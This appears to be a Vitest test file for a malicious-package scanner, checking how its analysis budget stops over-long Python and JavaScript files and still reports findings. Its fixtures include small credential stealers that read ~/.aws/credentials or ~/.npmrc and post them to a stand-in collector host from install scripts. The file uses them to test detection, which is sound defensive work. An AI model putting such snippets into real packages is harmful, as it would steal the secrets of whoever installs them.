// Issue #16: the analysis budget (src/analyzers/budget.ts). A file that costs more than its
// budget stops there: what was found is kept, the file is reported (unanalysed-code when it
// runs at install or import, a listed file otherwise), and the rest of the package is still
// analysed. The budget counts steps and nodes, never time: the same input gives the same
// result on any machine.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { BUDGET_REASON, type AnalysisBudget } from "../../src/analyzers/budget.js";
import { loadSignatures } from "../../src/rules/signatures.js";
import { scanTargets } from "../../src/scan.js";

const signatures = loadSignatures();
const root = mkdtempSync(join(tmpdir(), "exfilscan-budget-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));

let count = 0;
function materialize(files: Record<string, string>): string {
  const dir = join(root, String(count++));
  for (const [path, content] of Object.entries(files)) {
    const full = join(dir, path);
    mkdirSync(dirname(full), { recursive: true });
    writeFileSync(full, content);
  }
  return dir;
}

async function scan(files: Record<string, string>, budget: Partial<AnalysisBudget>) {
  const report = await scanTargets([materialize(files)], { signatures, budget, workers: 1 });
  const summary = (f: { ruleId: string; severity: string; location: { file: string } }) => `${f.ruleId} ${f.severity} ${f.location.file}`;
  return { report, findings: report.findings.map(summary), budgetErrors: report.errors.filter((e) => e.message.includes(BUDGET_REASON)) };
}

/** Many cheap statements: each costs a few steps. */
const filler = (n: number) => Array.from({ length: n }, (_, i) => `v${i} = "x" + str(${i})`).join("\n");

const PY_STEALER = [
  "import os, requests",
  'token = open(os.path.expanduser("~/.aws/credentials")).read()',
  'requests.post("https://collector.example.invalid/u", data=token)',
].join("\n");

describe("Python: per-file and per-package step budget", () => {
  it("stops an install script past its file budget, keeps what it found before, reports it high, and analyses the other files", async () => {
    const { findings, budgetErrors } = await scan(
      {
        "PKG-INFO": "Metadata-Version: 2.1\nName: slowpkg\nVersion: 1.0\n",
        // The credential is sent before the filler: found and kept.
        "setup.py": `${PY_STEALER}\n${filler(2000)}\nfrom setuptools import setup\nsetup(name="slowpkg")\n`,
        "slowpkg/__init__.py": "",
        "slowpkg/helper.py": PY_STEALER.replace("collector", "other"),
      },
      { fileSteps: 3000 },
    );
    expect(budgetErrors.map((e) => e.file)).toEqual(["setup.py"]);
    expect(findings).toContain("unanalysed-code high setup.py");
    // Facts found before the stop are kept, and the other file is still analysed.
    expect(findings.some((f) => f.startsWith("credential-exfiltration") && f.endsWith("setup.py"))).toBe(true);
    expect(findings.some((f) => f.startsWith("credential-exfiltration") && f.endsWith("slowpkg/helper.py"))).toBe(true);
  });

  it("lists a file that runs on its own only when called (no unanalysed-code finding for it)", async () => {
    const { findings, budgetErrors } = await scan(
      {
        "PKG-INFO": "Metadata-Version: 2.1\nName: deep\nVersion: 1.0\n",
        "setup.py": 'from setuptools import setup\nsetup(name="deep")\n',
        "deep/__init__.py": "",
        "deep/sub/tables.py": filler(2000),
      },
      { fileSteps: 3000 },
    );
    expect(budgetErrors.map((e) => e.file)).toEqual(["deep/sub/tables.py"]);
    expect(findings.filter((f) => f.startsWith("unanalysed-code"))).toEqual([]);
  });

  it("past the package budget, install code (run first) is analysed and every file not run is said", async () => {
    const { findings, budgetErrors } = await scan(
      {
        "PKG-INFO": "Metadata-Version: 2.1\nName: wide\nVersion: 1.0\n",
        "setup.py": `${PY_STEALER}\nfrom setuptools import setup\nsetup(name="wide")\n`,
        "wide/__init__.py": filler(1500),
        "wide/zz_late.py": filler(10),
      },
      { packageSteps: 2500 },
    );
    expect(findings.some((f) => f.startsWith("credential-exfiltration") && f.endsWith("setup.py"))).toBe(true);
    const files = budgetErrors.map((e) => e.file);
    expect(files).toContain("wide/__init__.py");
    expect(files).toContain("wide/zz_late.py");
    expect(files).toContain("package");
    // wide/__init__.py is an entry point (runs on import): not analysed in full is a finding.
    expect(findings).toContain("unanalysed-code medium wide/__init__.py");
  });

  it("past the syntax-tree node budget, install code is parsed first and the files left out are said", async () => {
    const { findings, budgetErrors } = await scan(
      {
        "PKG-INFO": "Metadata-Version: 2.1\nName: big\nVersion: 1.0\n",
        "aaa_first_by_name.py": filler(3000),
        "setup.py": `${PY_STEALER}\nfrom setuptools import setup\nsetup(name="big")\n`,
        "big/sub/a.py": filler(10),
        "big/sub/b.py": filler(10),
      },
      { packageNodes: 5000 },
    );
    expect(findings.some((f) => f.startsWith("credential-exfiltration") && f.endsWith("setup.py"))).toBe(true);
    // The entry file is said on its own (a finding); the others in one entry naming them.
    expect(budgetErrors.map((e) => e.file)).toEqual(["aaa_first_by_name.py", "package"]);
    expect(budgetErrors[0]!.message).toMatch(/syntax-tree nodes/);
    expect(budgetErrors[1]!.message).toMatch(/2 other file\(s\) not analysed: big\/sub\/a\.py, big\/sub\/b\.py/);
    expect(findings).toContain("unanalysed-code medium aaa_first_by_name.py");
  });

  it("is deterministic: the same package and budget give the same report", async () => {
    const files = {
      "PKG-INFO": "Metadata-Version: 2.1\nName: det\nVersion: 1.0\n",
      "setup.py": `${PY_STEALER}\n${filler(800)}\n`,
      "det/__init__.py": filler(900),
    };
    const a = await scan(files, { fileSteps: 1500, packageSteps: 4000 });
    const b = await scan(files, { fileSteps: 1500, packageSteps: 4000 });
    expect(a.findings).toEqual(b.findings);
    expect(a.budgetErrors.map((e) => [e.file, e.message])).toEqual(b.budgetErrors.map((e) => [e.file, e.message]));
    expect(a.budgetErrors.length).toBeGreaterThan(0);
  });
});

describe("JavaScript: per-file and per-package step budget", () => {
  const jsFiller = (n: number) => Array.from({ length: n }, (_, i) => `var v${i} = "x" + ${i};`).join("\n");
  const JS_STEALER = [
    "const fs = require('fs'); const os = require('os'); const https = require('https');",
    "const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
    "https.request({ hostname: 'collector.example.invalid', method: 'POST' }).end(npmrc);",
  ].join("\n");

  it("stops an install script past its file budget, reports it high, keeps what it found, and analyses the entry point", async () => {
    const { findings, budgetErrors } = await scan(
      {
        "package.json": JSON.stringify({ name: "slowjs", version: "1.0.0", main: "index.js", scripts: { postinstall: "node install.js" } }),
        "install.js": `${JS_STEALER}\n${jsFiller(3000)}\n`,
        "index.js": JS_STEALER.replace("collector", "other"),
      },
      { fileSteps: 2000 },
    );
    expect(budgetErrors.map((e) => e.file)).toContain("install.js");
    expect(findings).toContain("unanalysed-code high install.js");
    expect(findings.some((f) => f.startsWith("credential-exfiltration") && f.endsWith("install.js"))).toBe(true);
    expect(findings.some((f) => f.startsWith("credential-exfiltration") && f.endsWith("index.js"))).toBe(true);
  });

  it("says a file past its budget once, however many of its passes (functions, eval'd chunks) ran out", async () => {
    // Each function is analysed on its own with its own pass; each eval'd string is another pass of the same file.
    const heavy = (i: number) => `function f${i}() { ${jsFiller(400).replace(/var v/g, `var f${i}v`)} }`;
    const chunks = Array.from({ length: 6 }, (_, i) => `eval(${JSON.stringify(jsFiller(400).replace(/var v/g, `var e${i}v`))});`);
    const { budgetErrors } = await scan(
      {
        "package.json": JSON.stringify({ name: "manypasses", version: "1.0.0", main: "index.js" }),
        "index.js": `${Array.from({ length: 6 }, (_, i) => heavy(i)).join("\n")}\n${chunks.join("\n")}\n${jsFiller(3000)}\n`,
      },
      { fileSteps: 500 },
    );
    expect(budgetErrors.filter((e) => (e.file ?? "").startsWith("index.js")).map((e) => e.file)).toEqual(["index.js"]);
  });

  it("past the package budget, files never reached are said one by one", async () => {
    const { findings, budgetErrors } = await scan(
      {
        "package.json": JSON.stringify({ name: "widejs", version: "1.0.0", main: "index.js" }),
        "index.js": `${jsFiller(3000)}\n`,
        "lib/zz.js": `${JS_STEALER}\n`,
      },
      { packageSteps: 2000 },
    );
    const files = budgetErrors.map((e) => e.file);
    expect(files).toContain("package");
    expect(files).toContain("index.js");
    expect(findings).toContain("unanalysed-code medium index.js");
  });
});
